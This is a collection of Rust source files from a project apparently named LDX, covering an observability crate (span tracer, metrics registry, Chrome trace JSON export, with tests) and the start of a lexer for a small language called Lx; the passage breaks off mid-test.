        None if ev.dur_ns == 0 && ev.cat == crate::cat::SYSCALL_DECISION => "i",
        None => "X",
    };
    let _ = write!(
        out,
        "{{\"name\":{},\"cat\":{},\"ph\":\"{}\",\"ts\":{},\"pid\":1,\"tid\":{}",
        json_string(&ev.name),
        json_string(ev.cat),
        ph,
        micros(ev.ts_ns),
        ev.tid
    );
    match ph {
        "X" => {
            let _ = write!(out, ",\"dur\":{}", micros(ev.dur_ns));
        }
        "i" => {
            // Thread-scoped instant.
            out.push_str(",\"s\":\"t\"");
        }
        _ => {
            // Flow point: the shared arrow id; the finish end binds to the
            // *enclosing* slice (`bp:"e"`), the Chrome-convention pairing.
            let id = ev.flow.map(|(id, _)| id).unwrap_or(0);
            let _ = write!(out, ",\"id\":{id}");
            if ph == "f" {
                out.push_str(",\"bp\":\"e\"");
            }
        }
    }
    if !ev.args.is_empty() {
        out.push_str(",\"args\":{");
        for (i, (k, v)) in ev.args.iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            let _ = write!(out, "{}:{}", json_string(k), v);
        }
        out.push('}');
    }
    out.push('}');
    out
}

/// The recorded trace as a Chrome `trace_event` JSON array. Spans are
/// complete (`ph:"X"`) events; syscall-decision markers are thread
/// instants (`ph:"i"`). If the ring overflowed, a metadata-like instant
/// named `trace-truncated` is prepended carrying the dropped count.
pub fn chrome_trace_json() -> String {
    let events = trace_snapshot();
    let dropped = trace_dropped();
    let mut out = String::with_capacity(events.len() * 96 + 64);
    out.push('[');
    let mut first = true;
    if dropped > 0 {
        let _ = write!(
            out,
            "{{\"name\":\"trace-truncated\",\"cat\":\"meta\",\"ph\":\"i\",\"ts\":0,\
             \"pid\":1,\"tid\":0,\"s\":\"t\",\"args\":{{\"dropped\":{dropped}}}}}"
        );
        first = false;
    }
    for ev in &events {
        if !first {
            out.push(',');
        }
        first = false;
        out.push_str(&event_json(ev));
    }
    out.push_str("]\n");
    out
}

/// The full metrics dump: counters, histograms, per-barrier stall
/// profiles, and the trace ring's occupancy/truncation state.
pub fn metrics_json() -> String {
    let snap = metrics_snapshot();
    let stalls = stalls_snapshot();
    let recorded = trace_snapshot().len();
    let dropped = trace_dropped();

    let mut out = String::from("{\n  \"counters\": {");
    for (i, c) in snap.counters.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        let _ = write!(out, "\n    {}: {}", json_string(c.name), c.value);
    }
    out.push_str("\n  },\n  \"histograms\": {");
    for (i, h) in snap.histograms.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        let _ = write!(
            out,
            "\n    {}: {{\"count\": {}, \"sum\": {}, \"max\": {}, \"buckets\": [",
            json_string(h.name),
            h.count,
            h.sum,
            h.max
        );
        for (j, (bound, count)) in h.buckets.iter().enumerate() {
            if j > 0 {
                out.push(',');
            }
            let _ = write!(out, "[{bound},{count}]");
        }
        out.push_str("]}");
    }
    out.push_str("\n  },\n  \"stalls\": {");
    for (i, s) in stalls.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        let _ = write!(
            out,
            "\n    {}: {{\"count\": {}, \"total_wait_ns\": {}, \"max_wait_ns\": {}, \
             \"total_delta\": {}, \"wait_buckets\": [",
            json_string(&s.barrier),
            s.count,
            s.total_wait_ns,
            s.max_wait_ns,
            s.total_delta
        );
        for (j, (bound, count)) in s.wait_buckets.iter().enumerate() {
            if j > 0 {
                out.push(',');
            }
            let _ = write!(out, "[{bound},{count}]");
        }
        out.push_str("]}");
    }
    let _ = write!(
        out,
        "\n  }},\n  \"trace\": {{\"recorded\": {recorded}, \"dropped\": {dropped}, \
         \"truncated\": {}}}\n}}\n",
        dropped > 0
    );
    out
}

/// A compact one-line `{"name": value, ...}` dump of all counters, for
/// stderr telemetry when no `--metrics` file was requested.
pub fn counters_json_line() -> String {
    let snap = metrics_snapshot();
    let mut out = String::from("{");
    for (i, c) in snap.counters.iter().enumerate() {
        if i > 0 {
            out.push_str(", ");
        }
        let _ = write!(out, "{}: {}", json_string(c.name), c.value);
    }
    out.push('}');
    out
}

/// Writes [`chrome_trace_json`] to `path`.
pub fn write_chrome_trace(path: impl AsRef<Path>) -> io::Result<()> {
    std::fs::write(path, chrome_trace_json())
}

/// Writes [`metrics_json`] to `path`.
pub fn write_metrics(path: impl AsRef<Path>) -> io::Result<()> {
    std::fs::write(path, metrics_json())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        cat, counter_add, enable_tracing, histogram_record, instant, record_complete, reset,
        stall_record, testutil,
    };

    #[test]
    fn chrome_trace_has_spans_and_instants() {
        let _g = testutil::lock();
        reset();
        enable_tracing(64);
        record_complete(cat::MASTER, "run", 1_500, 2_000, vec![("jobs", 3)]);
        instant(cat::SYSCALL_DECISION, "decoupled");
        let json = chrome_trace_json();
        assert!(json.starts_with('[') && json.trim_end().ends_with(']'));
        assert!(json.contains("\"name\":\"run\""));
        assert!(json.contains("\"ph\":\"X\""));
        assert!(json.contains("\"ts\":1.500"));
        assert!(json.contains("\"dur\":2.000"));
        assert!(json.contains("\"args\":{\"jobs\":3}"));
        assert!(json.contains("\"ph\":\"i\""));
        assert!(!json.contains("trace-truncated"));
        reset();
    }

    #[test]
    fn flow_points_export_as_s_and_f() {
        let _g = testutil::lock();
        reset();
        enable_tracing(16);
        crate::flow_point(cat::FLOW, "dual-run", 42, true);
        crate::flow_point(cat::FLOW, "dual-run", 42, false);
        let json = chrome_trace_json();
        assert!(json.contains("\"ph\":\"s\""));
        assert!(json.contains("\"ph\":\"f\""));
        assert_eq!(json.matches("\"id\":42").count(), 2);
        // Only the finish end binds to the enclosing slice.
        assert_eq!(json.matches("\"bp\":\"e\"").count(), 1);
        assert!(json.contains("\"cat\":\"flow\""));
        reset();
    }

    #[test]
    fn truncated_trace_carries_marker() {
        let _g = testutil::lock();
        reset();
        enable_tracing(2);
        for i in 0..5u64 {
            record_complete(cat::BATCH, "job", i, 1, Vec::new());
        }
        let json = chrome_trace_json();
        assert!(json.contains("trace-truncated"));
        assert!(json.contains("\"dropped\":3"));
        reset();
    }

    #[test]
    fn metrics_json_contains_all_sections() {
        let _g = testutil::lock();
        reset();
        enable_tracing(16);
        counter_add("cache.hits", 4);
        histogram_record("batch.queue_latency_ns", 1234);
        stall_record("f0:s1", 500, 2);
        instant(cat::SYSCALL_DECISION, "aligned-reuse");
        let json = metrics_json();
        assert!(json.contains("\"counters\""));
        assert!(json.contains("\"cache.hits\": 4"));
        assert!(json.contains("\"batch.queue_latency_ns\""));
        assert!(json.contains("\"f0:s1\""));
        assert!(json.contains("\"total_wait_ns\": 500"));
        assert!(json.contains("\"recorded\": 1"));
        assert!(json.contains("\"truncated\": false"));
        reset();
    }

    #[test]
    fn counters_line_is_single_line() {
        let _g = testutil::lock();
        reset();
        crate::enable_metrics();
        counter_add("a.b", 1);
        let line = counters_json_line();
        assert_eq!(line, "{\"a.b\": 1}");
        assert!(!line.contains('\n'));
        reset();
    }

    #[test]
    fn json_strings_are_escaped() {
        assert_eq!(json_string("a\"b\\c\n"), "\"a\\\"b\\\\c\\n\"");
    }
}
