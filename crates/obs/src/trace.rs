//! The span tracer: a bounded ring buffer of timestamped events.
//!
//! Events are recorded as *complete* spans (begin timestamp + duration)
//! or *instants* (zero-duration markers). The buffer is a classic ring:
//! when full, the oldest event is overwritten and counted as dropped, so
//! a long run keeps its most recent window and the export flags the
//! truncation instead of exhausting memory.

use crate::{now_ns, thread_id, tracing_enabled};
use std::borrow::Cow;
use std::sync::Mutex;

/// Default ring capacity used by the CLI entry points: enough for the
/// full trace of the evaluation workloads, bounded at ~.5M events.
pub const DEFAULT_TRACE_CAPACITY: usize = 1 << 19;

/// One recorded event, as handed out by [`trace_snapshot`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TraceEventSnapshot {
    /// Category (one of [`crate::cat`]).
    pub cat: &'static str,
    /// Event name within the category.
    pub name: Cow<'static, str>,
    /// Begin timestamp, nanoseconds since the trace epoch.
    pub ts_ns: u64,
    /// Duration in nanoseconds (0 for instants).
    pub dur_ns: u64,
    /// Dense per-thread id.
    pub tid: u64,
    /// Small key/value annotations (`delta`, `waits`, …).
    pub args: Vec<(&'static str, i64)>,
    /// Flow-arrow binding: `Some((id, is_start))` marks this event as a
    /// flow point (`ph:"s"` start / `ph:"f"` finish in the Chrome export)
    /// linking spans across threads under the shared `id`.
    pub flow: Option<(u64, bool)>,
}

struct Ring {
    buf: Vec<TraceEventSnapshot>,
    capacity: usize,
    /// Next write position (wraps).
    head: usize,
    /// Events overwritten after the buffer filled.
    dropped: u64,
}

impl Ring {
    fn push(&mut self, ev: TraceEventSnapshot) {
        if self.capacity == 0 {
            self.dropped += 1;
            return;
        }
        if self.buf.len() < self.capacity {
            self.buf.push(ev);
        } else {
            self.buf[self.head] = ev;
            self.dropped += 1;
        }
        self.head = (self.head + 1) % self.capacity;
    }

    /// Events in recording order (oldest surviving first).
    fn ordered(&self) -> Vec<TraceEventSnapshot> {
        if self.buf.len() < self.capacity {
            return self.buf.clone();
        }
        let mut out = Vec::with_capacity(self.buf.len());
        out.extend_from_slice(&self.buf[self.head..]);
        out.extend_from_slice(&self.buf[..self.head]);
        out
    }
}

static RING: Mutex<Option<Ring>> = Mutex::new(None);

fn with_ring<R>(f: impl FnOnce(&mut Option<Ring>) -> R) -> R {
    let mut guard = RING
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner);
    f(&mut guard)
}

pub(crate) fn install_ring(capacity: usize) {
    with_ring(|r| {
        *r = Some(Ring {
            buf: Vec::with_capacity(capacity.min(1 << 22)),
            capacity,
            head: 0,
            dropped: 0,
        });
    });
}

pub(crate) fn clear() {
    with_ring(|r| *r = None);
}

/// Records a complete span with explicit timestamps. The building block
/// for instrumentation that measures a wait first and only then decides
/// whether the event is worth recording (e.g. align waits).
pub fn record_complete(
    cat: &'static str,
    name: impl Into<Cow<'static, str>>,
    ts_ns: u64,
    dur_ns: u64,
    args: Vec<(&'static str, i64)>,
) {
    if !tracing_enabled() {
        return;
    }
    let ev = TraceEventSnapshot {
        cat,
        name: name.into(),
        ts_ns,
        dur_ns,
        tid: thread_id(),
        args,
        flow: None,
    };
    with_ring(|r| {
        if let Some(ring) = r.as_mut() {
            ring.push(ev);
        }
    });
}

/// Records a zero-duration marker event.
pub fn instant(cat: &'static str, name: impl Into<Cow<'static, str>>) {
    if !tracing_enabled() {
        return;
    }
    record_complete(cat, name, now_ns(), 0, Vec::new());
}

/// Records a flow point: the start (`is_start`) or finish of a flow arrow
/// identified by `id`. Chrome/Perfetto bind the two ends by matching
/// category, name, and id, drawing an arrow between the enclosing spans —
/// use the same `cat`/`name` on both ends (see [`crate::next_flow_id`]).
pub fn flow_point(cat: &'static str, name: impl Into<Cow<'static, str>>, id: u64, is_start: bool) {
    if !tracing_enabled() {
        return;
    }
    let ev = TraceEventSnapshot {
        cat,
        name: name.into(),
        ts_ns: now_ns(),
        dur_ns: 0,
        tid: thread_id(),
        args: Vec::new(),
        flow: Some((id, is_start)),
    };
    with_ring(|r| {
        if let Some(ring) = r.as_mut() {
            ring.push(ev);
        }
    });
}

/// An in-flight span: created by [`span`], recorded on drop.
#[must_use = "a span records on drop; binding it to `_` drops immediately"]
pub struct Span {
    inner: Option<SpanInner>,
}

struct SpanInner {
    cat: &'static str,
    name: Cow<'static, str>,
    start_ns: u64,
    args: Vec<(&'static str, i64)>,
}

impl Span {
    /// Attaches a key/value annotation (no-op on a disabled span).
    pub fn arg(mut self, key: &'static str, value: i64) -> Self {
        if let Some(inner) = self.inner.as_mut() {
            inner.args.push((key, value));
        }
        self
    }
}

impl Drop for Span {
    fn drop(&mut self) {
        if let Some(inner) = self.inner.take() {
            let dur = now_ns().saturating_sub(inner.start_ns);
            record_complete(inner.cat, inner.name, inner.start_ns, dur, inner.args);
        }
    }
}

/// Opens a span; the guard records a complete event when dropped. When
/// tracing is disabled this is a single atomic load and a `None`.
pub fn span(cat: &'static str, name: impl Into<Cow<'static, str>>) -> Span {
    if !tracing_enabled() {
        return Span { inner: None };
    }
    Span {
        inner: Some(SpanInner {
            cat,
            name: name.into(),
            start_ns: now_ns(),
            args: Vec::new(),
        }),
    }
}

/// All surviving events, oldest first.
pub fn trace_snapshot() -> Vec<TraceEventSnapshot> {
    with_ring(|r| r.as_ref().map(Ring::ordered).unwrap_or_default())
}

/// How many events were overwritten after the ring filled. Nonzero means
/// the exported trace is truncated to its most recent window.
pub fn trace_dropped() -> u64 {
    with_ring(|r| r.as_ref().map_or(0, |ring| ring.dropped))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{cat, enable_tracing, reset, testutil};

    #[test]
    fn spans_and_instants_record_in_order() {
        let _g = testutil::lock();
        reset();
        enable_tracing(64);
        {
            let _s = span(cat::MASTER, "run").arg("jobs", 2);
        }
        instant(cat::SYSCALL_DECISION, "decoupled");
        let evs = trace_snapshot();
        assert_eq!(evs.len(), 2);
        assert_eq!(evs[0].cat, cat::MASTER);
        assert_eq!(evs[0].args, vec![("jobs", 2)]);
        assert_eq!(evs[1].name, "decoupled");
        assert_eq!(evs[1].dur_ns, 0);
        assert!(evs[1].ts_ns >= evs[0].ts_ns);
        assert_eq!(trace_dropped(), 0);
        reset();
    }

    #[test]
    fn overflow_keeps_newest_and_flags_truncation() {
        let _g = testutil::lock();
        reset();
        enable_tracing(8);
        for i in 0..100u64 {
            record_complete(cat::BATCH, format!("job{i}"), i, 1, Vec::new());
        }
        let evs = trace_snapshot();
        assert_eq!(evs.len(), 8);
        assert_eq!(trace_dropped(), 92);
        // The surviving window is the most recent one, in order.
        let names: Vec<String> = evs.iter().map(|e| e.name.to_string()).collect();
        let expect: Vec<String> = (92..100).map(|i| format!("job{i}")).collect();
        assert_eq!(names, expect);
        reset();
    }

    #[test]
    fn flow_points_carry_id_and_direction() {
        let _g = testutil::lock();
        reset();
        enable_tracing(16);
        flow_point(cat::FLOW, "dual-run", 7, true);
        flow_point(cat::FLOW, "dual-run", 7, false);
        let evs = trace_snapshot();
        assert_eq!(evs.len(), 2);
        assert_eq!(evs[0].flow, Some((7, true)));
        assert_eq!(evs[1].flow, Some((7, false)));
        assert_eq!(evs[0].cat, cat::FLOW);
        reset();
    }

    #[test]
    fn reenabling_replaces_the_buffer() {
        let _g = testutil::lock();
        reset();
        enable_tracing(4);
        instant(cat::BATCH, "a");
        enable_tracing(4);
        assert!(trace_snapshot().is_empty());
        reset();
    }
}
