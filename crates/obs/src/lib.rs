//! `ldx-obs`: the observability layer of the LDX pipeline.
//!
//! LDX's value proposition is *attribution*, so its own pipeline must not
//! be a black box. This crate provides the three lenses the rest of the
//! workspace instruments itself with:
//!
//! * a **span tracer** ([`span`], [`instant`]) writing into a bounded
//!   ring buffer of monotonic-timestamped events, exported as a Chrome
//!   `trace_event` JSON file (open in `chrome://tracing` or Perfetto);
//! * an **alignment-stall profiler** ([`stall_record`]) aggregating, per
//!   progress-counter barrier, how long the slave blocked and the counter
//!   delta observed at release;
//! * a process-wide **metrics registry** ([`counter_add`],
//!   [`histogram_record`]) of atomic counters and fixed-bucket (log2)
//!   histograms, exported as a flat JSON dump.
//!
//! # Cost model
//!
//! The layer is always compiled and *cheaply disabled*: every recording
//! entry point starts with a single relaxed [`AtomicBool`] load and
//! returns immediately when its level is off. Three levels nest:
//!
//! | level       | gate                  | cost when off          |
//! |-------------|-----------------------|------------------------|
//! | metrics     | [`metrics_enabled`]   | one atomic load        |
//! | profiling   | [`profiling_enabled`] | one atomic load        |
//! | tracing     | [`tracing_enabled`]   | one atomic load        |
//!
//! *Metrics* covers cold-path counters (compiles, cache hits, batch
//! jobs). *Profiling* additionally turns on hot-path timing (barrier
//! waits, stall aggregation) — two `Instant::now()` calls per barrier.
//! *Tracing* additionally records ring-buffer events. Enabling a level
//! enables the levels above it in the table ([`enable_tracing`] implies
//! profiling and metrics).
//!
//! The crate is std-only and holds all state in process-wide statics, so
//! any number of executions (including the batch engine's workers) feed
//! one registry. [`reset`] restores the pristine state for tests.
//!
//! [`AtomicBool`]: std::sync::atomic::AtomicBool

mod export;
mod metrics;
mod stall;
mod trace;

pub use export::{
    chrome_trace_json, counters_json_line, metrics_json, write_chrome_trace, write_metrics,
};
pub use metrics::{
    counter_add, counter_max, counter_value, ensure_counters, histogram_record, metrics_snapshot,
    CounterSnapshot, HistogramSnapshot, MetricsSnapshot,
};
pub use stall::{stall_record, stalls_snapshot, StallSnapshot};
pub use trace::{
    flow_point, instant, record_complete, span, trace_dropped, trace_snapshot, Span,
    TraceEventSnapshot, DEFAULT_TRACE_CAPACITY,
};

use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::OnceLock;
use std::time::Instant;

/// Span categories: the taxonomy every instrumented phase files under
/// (documented in `docs/OBSERVABILITY.md`).
pub mod cat {
    /// Frontend compile + instrumentation passes.
    pub const COMPILE: &str = "compile";
    /// The master execution of a dual run.
    pub const MASTER: &str = "master";
    /// The slave execution of a dual run.
    pub const SLAVE: &str = "slave";
    /// Per-syscall interposition decisions (`aligned-reuse`,
    /// `decoupled`, `sink-compare`).
    pub const SYSCALL_DECISION: &str = "syscall-decision";
    /// Iteration-barrier and alignment waits.
    pub const BARRIER_WAIT: &str = "barrier-wait";
    /// Batch-engine job execution.
    pub const BATCH: &str = "batch";
    /// Static dependence analysis (PDG construction, reachability).
    pub const SDEP: &str = "sdep";
    /// Flow arrows linking related spans across threads (e.g. the
    /// master↔slave pair of one dual run).
    pub const FLOW: &str = "flow";
}

static METRICS_ON: AtomicBool = AtomicBool::new(false);
static PROFILING_ON: AtomicBool = AtomicBool::new(false);
static TRACING_ON: AtomicBool = AtomicBool::new(false);

/// Whether the metrics registry records (cheapest level).
#[inline]
pub fn metrics_enabled() -> bool {
    METRICS_ON.load(Ordering::Relaxed)
}

/// Whether hot-path timing (barrier waits, stall profiling) records.
#[inline]
pub fn profiling_enabled() -> bool {
    PROFILING_ON.load(Ordering::Relaxed)
}

/// Whether ring-buffer trace events record.
#[inline]
pub fn tracing_enabled() -> bool {
    TRACING_ON.load(Ordering::Relaxed)
}

/// The hot-path guard: true when any level needing per-event timing is
/// on. Callers that would pay `Instant::now()` check this one load.
#[inline]
pub fn enabled() -> bool {
    profiling_enabled() || tracing_enabled()
}

/// Turns on the metrics registry.
pub fn enable_metrics() {
    METRICS_ON.store(true, Ordering::Relaxed);
}

/// Turns on hot-path timing (implies metrics).
pub fn enable_profiling() {
    enable_metrics();
    PROFILING_ON.store(true, Ordering::Relaxed);
}

/// Turns on event tracing with a ring buffer of `capacity` events
/// (implies profiling and metrics). Re-enabling replaces the buffer.
pub fn enable_tracing(capacity: usize) {
    enable_profiling();
    trace::install_ring(capacity);
    TRACING_ON.store(true, Ordering::Relaxed);
}

/// Turns every level off. Recorded data is kept (export still works).
pub fn disable_all() {
    TRACING_ON.store(false, Ordering::Relaxed);
    PROFILING_ON.store(false, Ordering::Relaxed);
    METRICS_ON.store(false, Ordering::Relaxed);
}

/// Disables every level and clears all recorded state (test helper).
pub fn reset() {
    disable_all();
    trace::clear();
    metrics::clear();
    stall::clear();
}

/// Monotonic nanoseconds since the first observability call in this
/// process (the trace epoch). Public so instrumentation that measures a
/// duration before deciding to record (see [`record_complete`]) can
/// stamp events on the same clock.
pub fn now_ns() -> u64 {
    static EPOCH: OnceLock<Instant> = OnceLock::new();
    let epoch = *EPOCH.get_or_init(Instant::now);
    Instant::now().duration_since(epoch).as_nanos() as u64
}

/// A fresh process-unique flow-arrow id. Both ends of one arrow (see
/// [`flow_point`]) must carry the same id, and distinct arrows in one
/// trace must not share ids.
pub fn next_flow_id() -> u64 {
    static NEXT: AtomicU64 = AtomicU64::new(1);
    NEXT.fetch_add(1, Ordering::Relaxed)
}

/// A small dense per-thread id for trace `tid` fields (`ThreadId` has no
/// stable integer form).
pub(crate) fn thread_id() -> u64 {
    static NEXT: AtomicU64 = AtomicU64::new(1);
    thread_local! {
        static TID: u64 = NEXT.fetch_add(1, Ordering::Relaxed);
    }
    TID.with(|t| *t)
}

#[cfg(test)]
pub(crate) mod testutil {
    use std::sync::{Mutex, MutexGuard};

    /// Serializes tests that touch the process-wide observability state.
    pub fn lock() -> MutexGuard<'static, ()> {
        static LOCK: Mutex<()> = Mutex::new(());
        LOCK.lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn levels_nest() {
        let _g = testutil::lock();
        reset();
        assert!(!metrics_enabled() && !profiling_enabled() && !tracing_enabled());
        enable_tracing(16);
        assert!(metrics_enabled() && profiling_enabled() && tracing_enabled());
        reset();
        enable_profiling();
        assert!(metrics_enabled() && profiling_enabled() && !tracing_enabled());
        reset();
    }

    #[test]
    fn disabled_path_records_nothing() {
        let _g = testutil::lock();
        reset();
        {
            let _s = span(cat::MASTER, "run");
            instant(cat::SYSCALL_DECISION, "decoupled");
        }
        counter_add("x.y", 3);
        histogram_record("h", 5);
        stall_record("b", 10, 1);
        assert!(trace_snapshot().is_empty());
        assert_eq!(counter_value("x.y"), 0);
        assert!(stalls_snapshot().is_empty());
        let snap = metrics_snapshot();
        assert!(snap.counters.is_empty());
        assert!(snap.histograms.is_empty());
    }

    #[test]
    fn disabled_span_is_branch_cheap() {
        let _g = testutil::lock();
        reset();
        // 1M disabled spans must be vastly cheaper than recording them:
        // the budget below is ~500ns per call, two orders of magnitude
        // above a relaxed atomic load, so this only fails if the
        // disabled path stops being a branch.
        let start = Instant::now();
        for _ in 0..1_000_000 {
            let _s = span(cat::BARRIER_WAIT, "loop-barrier");
        }
        assert!(
            start.elapsed() < std::time::Duration::from_millis(500),
            "disabled span path too slow: {:?}",
            start.elapsed()
        );
        assert!(trace_snapshot().is_empty());
    }

    #[test]
    fn thread_ids_are_distinct() {
        let a = thread_id();
        let b = std::thread::spawn(thread_id).join().unwrap();
        assert_ne!(a, b);
        assert_eq!(a, thread_id(), "stable within a thread");
    }
}
