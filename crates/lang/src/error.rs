//! Diagnostics for the Lx frontend.

use std::error::Error;
use std::fmt;

/// A source location: 1-based line and column.
///
/// Spans are attached to tokens during lexing and threaded through the AST so
/// that every later pipeline stage (parsing, resolution, lowering,
/// instrumentation) can point at the offending source position.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default)]
pub struct Span {
    /// 1-based source line. Line 0 means "unknown / synthesized".
    pub line: u32,
    /// 1-based source column. Column 0 means "unknown / synthesized".
    pub col: u32,
}

impl Span {
    /// Creates a span for the given 1-based line and column.
    pub fn new(line: u32, col: u32) -> Self {
        Span { line, col }
    }

    /// The span used for compiler-synthesized constructs with no source text.
    pub fn synthesized() -> Self {
        Span { line: 0, col: 0 }
    }
}

impl fmt::Display for Span {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.line == 0 {
            write!(f, "<synthesized>")
        } else {
            write!(f, "{}:{}", self.line, self.col)
        }
    }
}

/// An error produced by the Lx frontend (lexer, parser, or resolver).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LangError {
    span: Span,
    message: String,
}

impl LangError {
    /// Creates an error anchored at `span`.
    pub fn new(span: Span, message: impl Into<String>) -> Self {
        LangError {
            span,
            message: message.into(),
        }
    }

    /// The source location the error points at.
    pub fn span(&self) -> Span {
        self.span
    }

    /// The human-readable description (lowercase, no trailing period).
    pub fn message(&self) -> &str {
        &self.message
    }
}

impl fmt::Display for LangError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.span, self.message)
    }
}

impl Error for LangError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn span_display() {
        assert_eq!(Span::new(3, 14).to_string(), "3:14");
        assert_eq!(Span::synthesized().to_string(), "<synthesized>");
    }

    #[test]
    fn error_display_includes_location() {
        let err = LangError::new(Span::new(2, 5), "unexpected token");
        assert_eq!(err.to_string(), "2:5: unexpected token");
        assert_eq!(err.span(), Span::new(2, 5));
        assert_eq!(err.message(), "unexpected token");
    }

    #[test]
    fn spans_order_by_position() {
        assert!(Span::new(1, 9) < Span::new(2, 1));
        assert!(Span::new(2, 1) < Span::new(2, 2));
    }
}
