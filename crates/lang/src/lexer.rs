//! Hand-written lexer for Lx.

use crate::error::{LangError, Span};
use crate::token::{keyword, Token, TokenKind};

/// Lexes an entire source string into a token stream ending in
/// [`TokenKind::Eof`].
///
/// # Errors
///
/// Returns a [`LangError`] on the first unrecognized character, malformed
/// escape, unterminated string, or out-of-range integer literal.
pub fn lex(source: &str) -> Result<Vec<Token>, LangError> {
    Lexer::new(source).run()
}

/// A streaming lexer over Lx source text.
///
/// Most callers should use the convenience function [`lex`]; the type is
/// exposed for incremental tooling (e.g. syntax highlighting in tests).
#[derive(Debug)]
pub struct Lexer<'a> {
    chars: std::iter::Peekable<std::str::Chars<'a>>,
    line: u32,
    col: u32,
}

impl<'a> Lexer<'a> {
    /// Creates a lexer at the beginning of `source`.
    pub fn new(source: &'a str) -> Self {
        Lexer {
            chars: source.chars().peekable(),
            line: 1,
            col: 1,
        }
    }

    /// Consumes the lexer, producing the full token stream.
    ///
    /// # Errors
    ///
    /// See [`lex`].
    pub fn run(mut self) -> Result<Vec<Token>, LangError> {
        let mut out = Vec::new();
        loop {
            let tok = self.next_token()?;
            let done = tok.kind == TokenKind::Eof;
            out.push(tok);
            if done {
                return Ok(out);
            }
        }
    }

    fn span(&self) -> Span {
        Span::new(self.line, self.col)
    }

    fn bump(&mut self) -> Option<char> {
        let c = self.chars.next()?;
        if c == '\n' {
            self.line += 1;
            self.col = 1;
        } else {
            self.col += 1;
        }
        Some(c)
    }

    fn peek(&mut self) -> Option<char> {
        self.chars.peek().copied()
    }

    fn eat(&mut self, expected: char) -> bool {
        if self.peek() == Some(expected) {
            self.bump();
            true
        } else {
            false
        }
    }

    fn skip_trivia(&mut self) {
        loop {
            match self.peek() {
                Some(c) if c.is_whitespace() => {
                    self.bump();
                }
                Some('/') => {
                    // Only a comment if followed by another '/'.
                    let mut clone = self.chars.clone();
                    clone.next();
                    if clone.peek() == Some(&'/') {
                        while let Some(c) = self.peek() {
                            if c == '\n' {
                                break;
                            }
                            self.bump();
                        }
                    } else {
                        return;
                    }
                }
                _ => return,
            }
        }
    }

    fn next_token(&mut self) -> Result<Token, LangError> {
        self.skip_trivia();
        let span = self.span();
        let Some(c) = self.bump() else {
            return Ok(Token::new(TokenKind::Eof, span));
        };
        let kind = match c {
            '(' => TokenKind::LParen,
            ')' => TokenKind::RParen,
            '{' => TokenKind::LBrace,
            '}' => TokenKind::RBrace,
            '[' => TokenKind::LBracket,
            ']' => TokenKind::RBracket,
            ',' => TokenKind::Comma,
            ';' => TokenKind::Semi,
            '+' => TokenKind::Plus,
            '-' => TokenKind::Minus,
            '*' => TokenKind::Star,
            '/' => TokenKind::Slash,
            '%' => TokenKind::Percent,
            '=' => {
                if self.eat('=') {
                    TokenKind::EqEq
                } else {
                    TokenKind::Assign
                }
            }
            '!' => {
                if self.eat('=') {
                    TokenKind::NotEq
                } else {
                    TokenKind::Bang
                }
            }
            '<' => {
                if self.eat('=') {
                    TokenKind::Le
                } else {
                    TokenKind::Lt
                }
            }
            '>' => {
                if self.eat('=') {
                    TokenKind::Ge
                } else {
                    TokenKind::Gt
                }
            }
            '&' => {
                if self.eat('&') {
                    TokenKind::AndAnd
                } else {
                    TokenKind::Amp
                }
            }
            '|' => {
                if self.eat('|') {
                    TokenKind::OrOr
                } else {
                    return Err(LangError::new(span, "expected `||`, found single `|`"));
                }
            }
            '"' => self.string(span)?,
            c if c.is_ascii_digit() => self.number(c, span)?,
            c if c.is_ascii_alphabetic() || c == '_' => self.ident(c),
            other => {
                return Err(LangError::new(
                    span,
                    format!("unrecognized character `{other}`"),
                ))
            }
        };
        Ok(Token::new(kind, span))
    }

    fn string(&mut self, start: Span) -> Result<TokenKind, LangError> {
        let mut s = String::new();
        loop {
            match self.bump() {
                None => return Err(LangError::new(start, "unterminated string literal")),
                Some('"') => return Ok(TokenKind::Str(s)),
                Some('\\') => {
                    let esc_span = self.span();
                    match self.bump() {
                        Some('n') => s.push('\n'),
                        Some('t') => s.push('\t'),
                        Some('r') => s.push('\r'),
                        Some('\\') => s.push('\\'),
                        Some('"') => s.push('"'),
                        Some('0') => s.push('\0'),
                        Some(other) => {
                            return Err(LangError::new(
                                esc_span,
                                format!("unknown escape `\\{other}` in string literal"),
                            ))
                        }
                        None => return Err(LangError::new(start, "unterminated string literal")),
                    }
                }
                Some(c) => s.push(c),
            }
        }
    }

    fn number(&mut self, first: char, span: Span) -> Result<TokenKind, LangError> {
        let mut digits = String::from(first);
        while let Some(c) = self.peek() {
            if c.is_ascii_digit() {
                digits.push(c);
                self.bump();
            } else {
                break;
            }
        }
        digits
            .parse::<i64>()
            .map(TokenKind::Int)
            .map_err(|_| LangError::new(span, format!("integer literal `{digits}` out of range")))
    }

    fn ident(&mut self, first: char) -> TokenKind {
        let mut name = String::from(first);
        while let Some(c) = self.peek() {
            if c.is_ascii_alphanumeric() || c == '_' {
                name.push(c);
                self.bump();
            } else {
                break;
            }
        }
        keyword(&name).unwrap_or(TokenKind::Ident(name))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(src: &str) -> Vec<TokenKind> {
        lex(src).unwrap().into_iter().map(|t| t.kind).collect()
    }

    #[test]
    fn lexes_simple_statement() {
        assert_eq!(
            kinds("let x = 42;"),
            vec![
                TokenKind::Let,
                TokenKind::Ident("x".into()),
                TokenKind::Assign,
                TokenKind::Int(42),
                TokenKind::Semi,
                TokenKind::Eof,
            ]
        );
    }

    #[test]
    fn lexes_compound_operators() {
        assert_eq!(
            kinds("== != <= >= && || ! < > = & "),
            vec![
